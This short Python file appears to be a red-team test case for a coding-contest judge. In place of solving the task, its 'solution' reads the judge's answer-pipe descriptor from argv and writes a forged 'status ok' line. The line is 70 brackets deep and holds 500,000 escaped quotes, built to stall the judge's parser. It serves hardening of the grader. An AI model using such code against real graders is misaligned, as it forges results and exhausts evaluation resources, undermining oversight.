# Red-team round 26: one line straight onto the judge's answer pipe (its fd is in the config, argv[1]),
# more than 64 brackets deep, then a string never closed, of 500,000 escaped quotes. The judge's
# nesting measure restarted its string match at each quote and scanned to the line's end each time:
# an hour of the judge's CPU for this 1 MB line, on every case (a broken line restarts the server).
# Must be: RE, an unreadable line, in milliseconds.
import json, os, sys, time


class Solution:
    def updateBoard(self, board, click):
        fd = json.loads(sys.argv[1])["response_fd"]
        line = b'{"status":"ok","value":' + b'[' * 70 + b'"' + b'\\"' * 500000 + b'\n'
        while line:
            line = line[os.write(fd, line):]
        time.sleep(5)
        return board
